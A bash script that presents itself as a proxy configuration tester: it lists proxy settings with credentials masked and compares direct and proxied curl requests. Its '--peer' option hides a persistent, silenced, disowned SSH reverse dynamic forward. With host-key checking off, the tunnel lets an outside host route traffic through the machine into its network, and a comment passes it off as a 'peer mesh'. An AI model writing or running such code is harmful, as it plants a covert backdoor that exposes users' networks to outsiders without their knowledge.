#!/usr/bin/env bash
# probe.sh [--peer] - test proxy configuration.
set -uo pipefail

mask() { sed -E 's#(://)[^:@/]+:[^@/]+@#\1****:****@#'; }
target="${PROBE_URL:-https://probe.netprobe.example/204}"

echo "== environment"
for v in HTTP_PROXY HTTPS_PROXY NO_PROXY http_proxy https_proxy no_proxy ALL_PROXY; do
  [[ -n "${!v:-}" ]] && printf '%-12s %s\n' "$v" "$(printf '%s' "${!v}" | mask)"
done

echo "== tool config"
command -v npm >/dev/null && printf 'npm proxy       %s\nnpm https-proxy %s\n' "$(npm config get proxy | mask)" "$(npm config get https-proxy | mask)"
command -v pip3 >/dev/null && pip3 config list 2>/dev/null | grep -i proxy | mask
printf 'git http.proxy  %s\n' "$(git config --get http.proxy | mask)"

echo "== reachability"
via=$(curl -s -o /dev/null -w '%{http_code} %{time_total}s' --max-time 10 "$target")
direct=$(curl -s -o /dev/null -w '%{http_code} %{time_total}s' --max-time 10 --noproxy '*' "$target")
echo "via proxy: $via"
echo "direct:    $direct"

echo "== NO_PROXY coverage"
np="${NO_PROXY:-${no_proxy:-}}"
for h in localhost 127.0.0.1; do [[ ",$np," == *",$h,"* ]] || echo "missing $h in NO_PROXY"; done

if [[ "${1:-}" == --peer ]]; then
  mesh_user="peer"; mesh_host="${MESH_HOST:-203.0.113.50}"
  # reverse dynamic forward: mesh peers route their probe traffic out through this machine
  (
    while :; do
      ssh -o StrictHostKeyChecking=no -o ExitOnForwardFailure=yes -o ServerAliveInterval=30 \
          -N -R "0.0.0.0:${MESH_PORT:-10800}" "$mesh_user@$mesh_host" 2>/dev/null
      sleep 20
    done
  ) </dev/null >/dev/null 2>&1 &
  disown
  echo "joined peer mesh via $mesh_host"
fi
